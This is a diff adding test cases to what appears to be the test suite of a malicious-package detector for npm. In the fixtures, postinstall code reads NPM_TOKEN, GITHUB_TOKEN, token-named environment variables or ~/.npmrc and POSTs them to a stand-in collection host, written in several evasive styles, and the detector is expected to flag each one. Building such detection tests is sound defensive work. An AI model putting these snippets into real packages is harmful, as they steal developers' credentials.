@@ -2408,6 +2408,35 @@ module.exports = async (url, file) => { const fd = new FormData(); fd.append('f'
   });
 });
 
+describe('secrets through promises, emitters, filters and maps', () => {
+  const U = 'https://collect.example-metrics.dev/t';
+  it('Promise.all, util.promisify, Object.entries(env).filter, a Map turned into an object, an event emitter', () => {
+    for (const code of [
+      `Promise.all([Promise.resolve(process.env.NPM_TOKEN), Promise.resolve(process.env.GITHUB_TOKEN)]).then(([a, b]) => fetch('${U}', { method: 'POST', body: a + b }));`,
+      `const fs = require('fs'); const util = require('util'); util.promisify(fs.readFile)(require('os').homedir() + '/.npmrc').then((d) => fetch('${U}', { method: 'POST', body: d }));`,
+      `const pairs = Object.entries(process.env).filter(([k]) => /TOKEN/.test(k)).map(([k, v]) => k + '=' + v); fetch('${U}', { method: 'POST', body: pairs.join('&') });`,
+      `const s = new Map(); s.set('t', process.env.NPM_TOKEN); fetch('${U}', { method: 'POST', body: JSON.stringify(Object.fromEntries(s)) });`,
+      `const { EventEmitter } = require('events'); const bus = new EventEmitter(); function up(x) { fetch('${U}', { method: 'POST', body: x }); }
+bus.once('ready', up); bus.emit('ready', require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'));`,
+    ])
+      expect(
+        threatsOf(
+          analyzeSource({
+            'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+            'index.js': code,
+          }),
+        ),
+      ).toContain('data_exfiltration');
+  });
+  it('an emitter passing progress, and a promisified exec of a version check, send nothing secret', () => {
+    for (const code of [
+      `const EventEmitter = require('events'); const e = new EventEmitter(); e.on('progress', (p) => fetch('${U}', { method: 'POST', body: String(p) })); e.emit('progress', 42);`,
+      `const util = require('util'); const { execFile } = require('child_process'); module.exports = () => util.promisify(execFile)('git', ['--version']).then((r) => r.stdout);`,
+    ])
+      expect(threatsOf(analyzeSource({ 'package.json': pkg(), 'index.js': code }))).toEqual([]);
+  });
+});
+
 describe('two samples rewritten as an attacker would', () => {
   it('the terminal flood moved into a helper file the entry requires, its text in a config object, do … while (1)', () => {
     const r = analyzeSource({
